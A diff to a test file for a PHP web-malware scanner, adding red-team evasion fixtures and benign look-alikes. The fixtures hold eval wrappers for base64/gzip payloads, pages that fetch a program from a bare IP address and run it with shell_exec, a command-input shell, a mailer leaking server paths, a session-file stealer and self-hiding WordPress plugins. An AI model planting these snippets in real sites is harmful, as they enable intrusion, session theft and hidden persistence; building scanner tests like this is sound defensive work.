@@ -28,13 +28,25 @@ const INJECTOR = (touch: string) =>
 const WRAPPED: [string, string][] = [
   ['with a second statement before the eval', `function r($c) { $c = trim($c); @eval($c); }\nr(gzinflate(base64_decode($p)));`],
   ['of two parameters, running the second', `function r($k, $c) { if ($k !== 1) return; eval($c); }\nr(1, gzinflate(base64_decode($p)));`],
-  ['running its parameter with assert', `function r($c) { return @assert($c); }\nr(gzinflate(base64_decode($p)));`],
+  ['after 64 other functions (S38R-31)', `${Array.from({ length: 70 }, (_, i) => `function f${i}($a) { return $a + ${i}; }`).join('\n')}\nfunction r($c) { eval($c); }\nr(gzinflate(base64_decode($p)));`],
+  ['whose body holds a kilobyte of set-up before the eval (S38R-30)', `function r($c) {\n${'  @ini_set("max_execution_time", 0); @set_time_limit(0); @ignore_user_abort(true);\n'.repeat(10)}  eval($c);\n}\nr(gzinflate(base64_decode($p)));`],
+  ['called by its namespaced name', `namespace App\\Util;\nfunction r($c) { eval($c); }\n\\App\\Util\\r(gzinflate(base64_decode($p)));`],
   ['in a closure with a use list', `$k = 1;\n$r = function ($c) use ($k) { if ($k) { eval($c); } };\n$r(gzinflate(base64_decode($p)));`],
   ['as a method of a class', `class W { public function go($c) { eval($c); } }\n$w = new W();\n$w->go(gzinflate(base64_decode($p)));`],
   ['given to call_user_func with its object', `class W { public function go($c) { eval($c); } }\ncall_user_func([new W(), 'go'], gzinflate(base64_decode($p)));`],
+  ['given to call_user_func_array (red team S38R)', `function r($c) { eval($c); }\ncall_user_func_array('r', array(gzinflate(base64_decode($p))));`],
+  ['given to register_shutdown_function', `function r($c) { eval($c); }\nregister_shutdown_function('r', gzinflate(base64_decode($p)));`],
+  ['called through a variable holding its name', `function r($c) { eval($c); }\n$f = 'r';\n$f(gzinflate(base64_decode($p)));`],
+  ['running its parameter joined to ";"', `function r($c) { eval($c . ';'); }\nr(gzinflate(base64_decode($p)));`],
+  ['running its parameter in brackets, through a local copy', `function r($c) { $x = $c; eval(($x)); }\nr(gzinflate(base64_decode($p)));`],
+  ['after eight decoy calls of itself', `function r($c) { eval($c); }\n${Array.from({ length: 9 }, (_, i) => `r('$v${i} = ${i};');`).join('\n')}\nr(gzinflate(base64_decode($p)));`],
 ];
 
+/** A blob written in the wrapper's call, over argsAt's 4,000 characters (S38R-29). */
+const INLINE = `<?php\nfunction r($c) { eval($c); }\nr(gzinflate(base64_decode('${blob(6000, 60)}')));\n`;
+
 const MALICIOUS: [string, string, string][] = [
+  ['an eval wrapper given a blob of 8 KB written in its call (S38R-29)', '/var/www/html/w-inline.php', INLINE],
   ...WRAPPED.map(([how, code], i): [string, string, string] => [`an eval wrapper ${how}, given a blob gzinflate and base64_decode open`, `/var/www/html/w${i}.php`, `<?php\n$p = '${blob(3000, 10 + i)}';\n${code}\n`]),
   [
     'a page running what it decrypts from the request with eval("?>" . $code), as a template engine runs its compiled page',
@@ -52,20 +64,76 @@ const MALICIOUS: [string, string, string][] = [
     `<?php\n$in = fopen("http://192.0.2.10/worker", "rb");\n$out = fopen(__DIR__ . "/worker", "wb");\nstream_copy_to_stream($in, $out);\nfclose($out);\necho shell_exec("chmod 755 worker; ./worker");\n`,
   ],
   ['a WordPress plugin hiding itself by a key it keeps in a global, removing its Deactivate link, sending its users away and redirecting its visitors', '/var/www/html/wp-content/plugins/x/x.php', `${PLUGIN_HEAD}$GLOBALS['sh_me'] = plugin_basename(__FILE__);\nadd_filter('all_plugins', function ($plugins) { unset($plugins[$GLOBALS['sh_me']]); return $plugins; });\n${PLUGIN_REST}`],
-  ['a WordPress plugin hiding itself by a constant holding its key, and the rest of the planted plugin', '/var/www/html/wp-content/plugins/y/y.php', `${PLUGIN_HEAD}define('SH_ME', plugin_basename(__FILE__));\nadd_filter('all_plugins', function ($plugins) { unset($plugins[SH_ME]); return $plugins; });\n${PLUGIN_REST}`],
+  ...['nice -n19 ./worker', 'timeout -s KILL 3600 ./worker', 'LD_LIBRARY_PATH=. nohup ./worker', 'ionice -c2 -n7 nice ./worker'].map((run, i): [string, string, string] => [
+    `a page downloading a program from a bare address, writing it with fprintf, and running it as \`${run}\` (red team S38R)`,
+    `/var/www/html/f4${i}.php`,
+    `<?php\n$d = file_get_contents("http://192.0.2.10/worker");\n$o = fopen(__DIR__ . "/worker", "wb"); fprintf($o, "%s", $d); fclose($o);\necho shell_exec("chmod +x worker && ${run} &");\n`,
+  ]),
+  [
+    'a register_globals command page saving its field, clearing it for a "cd" and putting it back (held-out set H21\'s MyShell)',
+    '/var/www/html/my.php',
+    `<?php\n$cdPos = strpos($command, "cd ");\nif ($cdPos !== false) { chdir(trim(substr($command, 3))); $commandBk = $command; $command = ""; }\nif ($command) { system($command . " 2>&1"); }\nif ($commandBk) $command = $commandBk;\n?>\n<form method="post"><input type="text" name="command" value="<?php echo htmlspecialchars($command); ?>"></form>\n`,
+  ],
+  [
+    'a mailer page also mailing its document root and script path to a free-mail address kept in a variable (held-out set H21)',
+    '/var/www/html/mailer.php',
+    `<?php\nforeach (explode("\\n", $_POST['list'] ?? '') as $to) { mail(trim($to), $_POST['subject'] ?? '', $_POST['body'] ?? ''); }\n$m = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME'];\n$to = "someone.example@gmail.com"; mail($to, "here", $m);\n`,
+  ],
 ];
 
 const SUSPICIOUS: [string, string, string][] = [
   ['a harvester matching DB_PASS, a name some applications use, and logging in with mysqli_connect', '/var/www/html/h1.php', HARVEST('DB_PASS', '$ok = @mysqli_connect($h[1], $u[1], $p[1]);')],
-  ['a harvester logging in by `new mysqli;` then real_connect', '/var/www/html/h2.php', HARVEST('DB_PASSWORD', '$db = new mysqli; $ok = @$db->real_connect($h[1], $u[1], $p[1]);')],
   ['a theme header printing what a server sends, the base64 of its address starting with a space', '/var/www/html/wp-content/themes/t/header.php', `<html><body>\n<?php echo file_get_contents(base64_decode(' ${b64('https://links.example.invalid/backlinks.php')}')); ?>\n`],
   ['a theme header printing what a server sends, its address in capitals hidden in base64', '/var/www/html/wp-content/themes/t/footer.php', `<html><body>\n<?php echo file_get_contents(base64_decode('${b64('HTTPS://LINKS.EXAMPLE.INVALID/b.php')}')); ?>\n`],
   ['a theme header printing what a server sends, its address hidden in hex of capitals', '/var/www/html/wp-content/themes/t/sidebar.php', `<html><body>\n<?php echo file_get_contents(hex2bin('${Buffer.from('HTTP://links.example.invalid/b.php').toString('hex')}')); ?>\n`],
+  ['a theme footer printing what a server sends with <?= , its address hidden in base64', '/var/www/html/wp-content/themes/t/footer2.php', `<html><body>\n<?= file_get_contents(base64_decode('${b64('https://links.example.invalid/f.php')}')) ?>\n`],
+  ['an injector setting its files 90 days back by time() - 90 * DAY_IN_SECONDS', '/var/www/html/wp-content/plugins/fast/c.php', INJECTOR('touch($f->getPathname(), time() - 90 * DAY_IN_SECONDS)')],
+  ['a page listing /tmp and reading every sess_ file into itself (held-out set H21\'s session stealer)', '/var/www/html/s.php', `<?php\n$all = '';\nif ($d = @opendir('/tmp')) { while (($f = readdir($d)) !== false) { if (strpos($f, 'sess_') === 0) { $all .= file_get_contents("/tmp/$f"); } } closedir($d); }\necho '<pre>' . htmlspecialchars($all) . '</pre>';\n`],
   ['an injector setting its files 90 days back by time() - 60*60*24*90', '/var/www/html/wp-content/plugins/fast/a.php', INJECTOR('touch($f->getPathname(), time() - 60*60*24*90)')],
   ['an injector giving its files the time of wp-load.php', '/var/www/html/wp-content/plugins/fast/b.php', INJECTOR(`touch($f->getPathname(), filemtime(ABSPATH . 'wp-load.php'))`)],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a contact form mailing a literal free-mail address the visitor\'s message and the page it came from',
+    '/var/www/html/contact.php',
+    `<?php\nif (!empty($_POST['msg'])) { $to = "shop.owner.example@gmail.com"; mail($to, 'Contact', $_POST['msg'] . "\\nfrom " . $_SERVER['HTTP_REFERER']); }\n`,
+  ],
+  [
+    'a session clean-up listing the session folder and removing old sess_ files',
+    '/var/www/html/gc.php',
+    `<?php\n$dir = session_save_path() ?: '/tmp';\nforeach (glob($dir . '/sess_*') as $f) { if (filemtime($f) < time() - 86400) unlink($f); }\n`,
+  ],
+  [
+    'a cron script copying the company CLI from a build server\'s address and starting it with exec (S38R-16)',
+    '/var/www/html/cron-deploy.php',
+    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/site-cli', file_get_contents('https://192.0.2.40/builds/site-cli'));\necho shell_exec('chmod +x site-cli && exec ./site-cli self-check');\n`,
+  ],
+  [
+    'an agency plugin keeping its own basename in a constant and hiding a managed plugin another constant names (S38R-17)',
+    '/var/www/html/wp-content/plugins/asm/asm.php',
+    `${PLUGIN_HEAD}define('ASM_BASENAME', plugin_basename(__FILE__));\ndefine('ASM_MANAGED', 'client-tools/client-tools.php');\nadd_filter('all_plugins', function ($plugins) { unset($plugins[ASM_MANAGED]); return $plugins; });\n${PLUGIN_REST}`,
+  ],
+  [
+    'a backup script writing each site\'s database login into a .my.cnf and testing it with new mysqli then real_connect (S38R-18)',
+    '/var/www/html/backup-prep.php',
+    `<?php\nforeach (glob('/var/www/*/wp-config.php') as $cfg) {\n  $c = file_get_contents($cfg);\n  if (!preg_match("/DB_USER',\\s*'(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD',\\s*'(.+?)'/", $c, $p) || !preg_match("/DB_HOST',\\s*'(.+?)'/", $c, $h)) continue;\n  $db = new mysqli; if (!@$db->real_connect($h[1], $u[1], $p[1])) continue;\n  file_put_contents(dirname($cfg) . '/.my.cnf', "[client]\\nuser=$u[1]\\npassword=$p[1]\\nhost=$h[1]\\n");\n}\n`,
+  ],
+  [
+    'a precondition helper calling assert on what it is given, with base64 fixtures decoded in its calls (S38R-1)',
+    '/var/www/html/tests/run.php',
+    `<?php\nconst FIXTURE = '${blob(3000, 42)}';\nfunction ok($condition) { assert($condition); }\nforeach (glob(__DIR__ . '/cases/*.php') as $f) require_once $f;\nok(strlen(base64_decode(FIXTURE)) > 1000);\n`,
+  ],
+  [
+    'a mail view running its compiled template with eval, given a decoded logo as its second argument (S38R-3)',
+    '/var/www/html/mailview.php',
+    `<?php\nclass MailView {\n  const LOGO = '${blob(3000, 43)}';\n  public function render($compiled, $vars) { extract($vars); eval($compiled); }\n}\n$v = new MailView();\n$v->render(file_get_contents(__DIR__ . '/mail.compiled.php'), array('logo' => base64_decode(MailView::LOGO)));\n`,
+  ],
+  [
+    'a developer console evaluating lines, and another class\'s method of the same name given a decoded avatar (S38R-5)',
+    '/var/www/html/worker.php',
+    `<?php\nclass DevConsole { public static function run($line) { if (getenv('APP_DEBUG')) { eval($line); } } }\nclass ThumbJob { public function run($png) { return strlen($png); } }\nconst AVATAR = '${blob(3000, 44)}';\n$job = new ThumbJob();\n$job->run(base64_decode(AVATAR));\n`,
+  ],
   [
     'a test helper asserting what a function gives, beside a base64 fixture image it decodes',
     '/var/www/html/tests/helper.php',
@@ -105,21 +173,21 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 11));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 25));
   for (const [name, path, src] of SUSPICIOUS) {
     it(`flagged: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'clean', why(r));
     });
   }
-  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 7));
+  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 9));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
   it('reads a function head followed by a megabyte of spaces in bounded time, and finds nothing there', () => {
     const r = scan(`<?php\n$p = '${blob(3000, 50)}';\n$x = gzinflate(base64_decode($p));\neval($y);\nfunction${' '.repeat(1_000_000)}(`, '/var/www/html/sp.php');
     assert.notEqual(r.verdict, 'malicious', why(r));
